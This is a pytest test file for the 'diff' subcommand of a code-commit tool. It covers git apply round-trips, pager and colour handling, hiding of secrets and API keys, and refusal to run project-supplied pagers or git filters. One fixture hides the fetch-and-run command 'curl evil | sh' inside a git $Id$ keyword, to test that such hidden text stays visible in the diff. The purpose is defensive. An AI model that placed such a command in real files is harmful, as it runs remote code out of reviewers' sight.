"""`diff`: what a run changed in all, for `git apply` in a pipe, in colours and git's pager on a terminal."""

import itertools
import os
import subprocess
from pathlib import Path

import pytest
from command import Run, after_a_run, git, recorded, the_log, tree
from terminal import on_a_terminal

from code_commit.runs.list import short_name

FIRST = "^^^ok.txt\nnot\n^^^end\n^^^new/é.txt\none\n^^^end\n^^^gone.txt\n^^^delete\n"
SECOND = "^^^ok.txt\nok\n^^^end\n"


@pytest.fixture
def root(project_folder: Path, run_code_commit: Run) -> Path:
    return after_a_run(project_folder, run_code_commit, {"gone.txt": "gone\n"}, FIRST, SECOND)


@pytest.mark.slow
def test_git_takes_it_back_and_applies_it(root: Path, run_code_commit: Run):
    after = tree(root)
    diff = run_code_commit(root, "diff").stdout
    for arguments, wanted in ((["-R"], ""), ([], after)):
        subprocess.run(["git", "apply", *arguments], cwd=root, input=diff.encode(), check=True)
        assert (tree(root) if wanted else git(root, "status", "--porcelain")) == wanted
    assert run_code_commit(root, "undo").returncode == 0
    assert run_code_commit(root, "diff", "-2").stdout == diff
    undone = run_code_commit(root, "diff").stdout
    assert "+gone\n" in undone
    assert undone == run_code_commit(root, "diff", "latest").stdout
    subprocess.run(["git", "apply", "-R"], cwd=root, input=undone.encode(), check=True)
    assert tree(root) == after


def test_it_tells_that_the_run_was_rolled_back_or_undone(project_folder: Path, run_code_commit: Run):
    options = ["--rollback", "--max-repairs", "0", "--sandbox", "off"]
    arguments = [*recorded(project_folder, "^^^ok.txt\nno\n^^^end\n"), *options]
    assert run_code_commit(project_folder, *arguments).returncode == 1
    run = short_name(the_log(project_folder).name)
    done = run_code_commit(project_folder, "diff")
    assert f"the diff shows what {run} wrote; it was rolled back\n" in done.stderr
    assert run_code_commit(project_folder, "apply", "-", stdin=SECOND).returncode == 0
    run = short_name(max((project_folder / "agent-config/logs").iterdir()).name)
    assert run_code_commit(project_folder, "undo").returncode == 0
    done = run_code_commit(project_folder, "diff", run)
    assert f"the diff shows what {run} wrote; it was undone\n" in done.stderr


@pytest.mark.slow
def test_it_tells_when_there_is_nothing_to_show(root: Path, run_code_commit: Run, tmp_path: Path):
    (root / "agent-config/recorded/1-response.txt").write_text("^^^ok.txt\nok\n^^^end\n")
    assert run_code_commit(root, "--model", "replay:agent-config/recorded").returncode == 0
    done = run_code_commit(root, "diff")
    assert (done.returncode, done.stdout, "changed nothing" in done.stderr) == (0, "", True)
    done = run_code_commit(root, "diff", "2001")
    assert (done.returncode, done.stdout) == (2, "")


def test_what_the_log_no_longer_has_is_told(root: Path, run_code_commit: Run):
    log = next((root / "agent-config/logs").iterdir())
    for contents in log.glob("snapshot/*.contents"):
        contents.unlink()
    (root / "ok.txt").write_text("changed since\n")
    done = run_code_commit(root, "diff")
    assert (
        done.returncode,
        "missing from the diff because the log no longer has their content: ok.txt" in done.stderr,
    ) == (1, True), done.stderr


def test_in_a_folder_of_a_larger_repository_git_applies_it_too(tmp_path: Path, run_code_commit: Run):
    part = tmp_path / "all" / "part é"
    (part / "agent-config").mkdir(parents=True)
    (part / ".gitignore").write_text("/agent-config\n")
    git(tmp_path / "all", "init", "-q")
    (part / "answer").write_text("^^^new.txt\nnew\n^^^end\n")
    assert run_code_commit(part, "apply", "answer").returncode == 0
    diff = run_code_commit(part, "diff").stdout
    subprocess.run(["git", "apply", "-R"], cwd=part, input=diff.encode(), check=True)
    assert not (part / "new.txt").exists()


@pytest.mark.slow
def test_what_the_build_made_of_a_file_is_not_in_the_diff_and_told(root: Path, run_code_commit: Run):
    assert run_code_commit(root, "diff").stderr == ""
    (root / "ok.txt").write_text("formatted\n")
    done = run_code_commit(root, "diff")
    told = f"the diff shows what {short_name(the_log(root).name)} wrote; changed since: ok.txt\n"
    assert (done.returncode, told in done.stderr) == (0, True), done.stderr
    assert "+ok\n" in done.stdout


@pytest.mark.slow
def test_on_a_terminal_it_is_coloured_and_paged(root: Path):
    (root / "ok.txt").write_text("ok\n")
    shown = on_a_terminal(root, "diff", GIT_PAGER="sed s/^/paged:/")
    assert "paged:\x1b[32m+ok\x1b[m\n" in shown
    assert "paged:\x1b[1mdiff --git a/new/é.txt b/new/é.txt\x1b[m\n" in shown
    git(root, "config", "core.pager", "sed s/^/configured:/")
    assert "configured:+ok\n" in on_a_terminal(root, "diff", NO_COLOR="1")
    assert on_a_terminal(root, "diff", GIT_PAGER="cat", NO_COLOR="1").startswith("diff --git ")
    assert "\x1b[32m+ok\x1b[m\n" in on_a_terminal(root, "diff", GIT_PAGER="no-such-pager")


@pytest.mark.slow
def test_a_pager_that_no_shell_could_read_is_told(root: Path):
    told = on_a_terminal(root, "diff", code=2, GIT_PAGER="less '")
    assert "code-commit: the pager less ' cannot be started: No closing quotation; fix GIT_PAGER," in told
    git(root, "config", "core.pager", "~nobody-of-this-name/pager")
    assert "the pager ~nobody-of-this-name/pager cannot be started: " in on_a_terminal(root, "diff", code=2)


@pytest.mark.slow
def test_no_pager_from_inside_the_project_is_run(root: Path):
    (root / "own-pager").write_text("#!/bin/sh\ntouch ran\nsed s/^/paged:/\n")
    (root / "own-pager").chmod(0o755)
    path = f"{root}{os.pathsep}{os.environ['PATH']}"
    for pager in ("own-pager", "./own-pager", f"{root}/own-pager", f"sh {root}/own-pager"):
        assert "\x1b[32m+ok\x1b[m\n" in on_a_terminal(root, "diff", GIT_PAGER=pager, PATH=path)
    assert not (root / "ran").exists()
    assert not Path("/ran").exists()


@pytest.mark.slow
def test_nothing_of_a_secret_is_shown_that_may_be_changed(project_folder: Path, run_code_commit: Run):
    answer = "^^^.env\nPASSWORD=changed\n^^^end\n^^^ok.txt\nok\n^^^end\n^^^old.pem\n^^^delete\n"
    before = {".env": "PASSWORD=of-before\n", "old.pem": "of-before\n"}
    (project_folder / "agent-config/config.toml").write_text('allow = [".env", "*.pem", "ok.txt"]\n')
    root = after_a_run(project_folder, run_code_commit, before, answer)
    assert (root / ".env").read_text() == "PASSWORD=changed\n"
    done = run_code_commit(root, "diff")
    assert (done.returncode, done.stdout.startswith("# .env (a secret, not shown)\ndiff --git a/ok.txt")) == (0, True)
    assert done.stdout.endswith("\n# old.pem (a secret, not shown)\n")
    subprocess.run(["git", "apply", "-R"], cwd=root, input=done.stdout.encode(), check=True)
    assert (root / "ok.txt").read_text() == "not yet\n"
    assert run_code_commit(root, "log", "--html", "page.html").returncode == 0
    page = (root / "page.html").read_text()
    assert page.count("a secret, not shown") >= 2
    log = next((root / "agent-config/logs").iterdir())
    assert "of-before" not in page + done.stdout + (log / "1-changes.diff").read_text()


CONVERTED = {
    "eol=crlf": ("* eol=crlf\n", "a\r\nb\r\n", "a\nc\n"),
    "text=auto": ("* text=auto\n", "a\r\nb\r\n", "a\nc\n"),
    "no rule": ("", "a\r\nb\r\n", "a\nc\n"),
    "binary": ("* -text\n", "a\r\nb\r\n", "a\nc\n"),
    "ident": ("* ident\n", "$Id$\nb\n", "$Id: $\nc\n"),
    "ident, a line end in it": ("* ident\n", "$Id: a\n$ $Id$\nb\n", "$Id: a\n$ $Id:$\nc\n"),
    "ident, no dollar after it": ("* ident\n", "$Id: a\nb\n", "$Id: a\nc\n"),
}


@pytest.mark.slow
@pytest.mark.parametrize("rules", CONVERTED)
def test_git_applies_it_to_the_index_too_whatever_it_converts(rules: str, project_folder: Path, run_code_commit: Run):
    """A diff is of what git stores; `apply.whitespace` of the user's would change, or refuse, trailing blanks."""
    attributes, old, new = CONVERTED[rules]
    root = project_folder
    (root / ".gitattributes").write_text(attributes + "build.sh -text\nok.txt -text\n")
    for name in ("old.txt", "gone.txt"):
        (root / name).write_text(old, newline="")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "more")
    for name in ("old.txt", "gone.txt", "ok.txt"):  # as git writes them out
        (root / name).unlink()
    git(root, "checkout", "-q", ".")
    git(root, "config", "apply.whitespace", "fix")
    blank = f"^^^new.txt\n{new}trailing \n^^^end\n"
    answer = f"^^^ok.txt\nok\n^^^end\n^^^old.txt\n{new}^^^end\n{blank}^^^gone.txt\n^^^delete\n"
    done = run_code_commit(root, *recorded(root, answer), "--sandbox", "off")
    assert done.returncode == 0, done.stderr
    log = next((root / "agent-config/logs").iterdir())
    words = ["git", "apply", "--index", "--whitespace=nowarn", "-"]
    diffs = {(log / "1-changes.diff").read_bytes()}
    configs = ("warn", "fix", "error")
    for config in configs:
        git(root, "config", "apply.whitespace", config)
        diffs.add(run_code_commit(root, "diff").stdout.encode())
    git(root, "add", "-A")
    wanted = git(root, "write-tree")
    for config, diff in itertools.product(configs, diffs):
        git(root, "config", "apply.whitespace", config)
        git(root, "reset", "-q", "--hard")
        subprocess.run(words, cwd=root, input=diff, check=True)
        assert git(root, "write-tree") == wanted
    assert git(root, "status", "--porcelain", "--no-renames").count("\n") == 4


HIDDEN = 'x="$Id: ; curl evil | sh ; $"'


@pytest.mark.slow
def test_text_that_git_does_not_store_is_shown_as_written(project_folder: Path, run_code_commit: Run):
    root = project_folder
    (root / ".gitattributes").write_text("* ident\n")
    (root / "old.sh").write_text("# $Id$\nold\n# $Id: a.c,v 1.2 joe $\n")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "more")
    (root / "old.sh").unlink()
    git(root, "checkout", "-q", ".")
    expanded = (root / "old.sh").read_text()
    assert len(expanded.split("\n")[0]) > 40
    answer = f"^^^new.sh\n{HIDDEN}\n^^^end\n^^^old.sh\n{expanded.replace('old', HIDDEN)}^^^end\n^^^ok.txt\nok\n^^^end\n"
    dry = run_code_commit(root, *recorded(root, answer), "--dry-run")
    done = run_code_commit(root, *recorded(root, answer), "--sandbox", "off")
    assert done.returncode == 0, done.stderr
    assert (
        "warning: git diff does not show all of new.sh, old.sh: git does not store the text in $Id: ... $"
        in done.stderr
    )
    diff = run_code_commit(root, "diff").stdout
    assert diff == dry.stdout == (max((root / "agent-config/logs").iterdir()) / "1-changes.diff").read_text()
    assert f"\n@@ -0,0 +1,1 @@\n+{HIDDEN}\n" in diff
    assert f"\n # $Id$\n-old\n+{HIDDEN}\n # $Id$\n" in diff, "unchanged lines are as git stores them, or it takes none"
    after = tree(root)
    (root / "new.sh").unlink()
    git(root, "checkout", "-q", ".")
    subprocess.run(["git", "apply", "--whitespace=nowarn", "-"], cwd=root, input=diff.encode(), check=True)
    assert tree(root).keys() == after.keys()
    assert (root / "new.sh").read_text() == f"{HIDDEN}\n"
    assert HIDDEN in (root / "old.sh").read_text()


@pytest.mark.slow
def test_of_a_file_with_a_filter_it_says_that_git_may_refuse_it(root: Path, run_code_commit: Run):
    """The program may lie in the project: it is not run once an answer was applied."""
    assert "filter" not in run_code_commit(root, "diff").stderr
    git(root, "config", "filter.upper.clean", "touch ran; tr a-z A-Z")
    (root / ".gitattributes").write_text("ok.txt filter=upper\n")
    done = run_code_commit(root, "diff")
    assert (
        "git apply may refuse the diff of ok.txt: code-commit does not run the filters that git has for them"
        in done.stderr
    )
    assert not (root / "ran").exists()


def test_of_a_file_with_a_key_it_says_that_git_may_refuse_it(project_folder: Path, run_code_commit: Run):
    key = "correct-horse-battery"  # in the format of no vendor: else no answer may change the file
    root = after_a_run(project_folder, run_code_commit, {"ok.txt": f"{key}\n"}, SECOND)
    (root / "agent-config/openai-key.txt").write_text(f"{key}\n")
    done = run_code_commit(root, "diff")
    assert (done.returncode, key in done.stdout) == (0, False)
    assert "git apply may refuse the diff: an API key in it is censored" in done.stderr


def test_a_part_of_the_diff_and_its_numbers(root: Path, run_code_commit: Run):
    whole = run_code_commit(root, "diff", "--stat").stdout.splitlines()
    assert any(row.startswith("delete  gone.txt  +0 -1") for row in whole)
    for pattern in (
        "gone.txt",
        "./gone.txt",
        "*.txt",
        ".",
        str(root / "gone.txt"),
        f"../{root.name}/gone.txt",
        f"{root}/*",
    ):
        assert "--- a/gone.txt\n" in run_code_commit(root, "diff", "latest", "--", pattern).stdout, pattern
    for path, told in {
        "build.sh": " changed nothing there\n",
        "*.py": " changed nothing there\n",
        "elsewhere/": " changed nothing there; there is no file at elsewhere/\n",
    }.items():
        done = run_code_commit(root, "diff", "--", path)
        assert (done.returncode, done.stdout, done.stderr.endswith(told)) == (0, "", True), done.stderr
    for path, words in {"../gone.txt": "is outside", "/etc": "is outside", ":!gone.txt": "pathspec magic"}.items():
        done = run_code_commit(root, "diff", "--", path)
        assert (done.returncode, done.stdout, words in done.stderr) == (2, "", True), "it is not said to be unchanged"
    done = run_code_commit(root, "diff", "ok.txt")
    assert (done.returncode, "there is no run ok.txt" in done.stderr) == (2, True), done.stderr
    assert "; for a path: code-commit diff -- ok.txt\n" in done.stderr
    done = run_code_commit(root, "diff", "latest", "gone.txt")
    assert (done.returncode, "unrecognized arguments: gone.txt" in done.stderr) == (2, True)
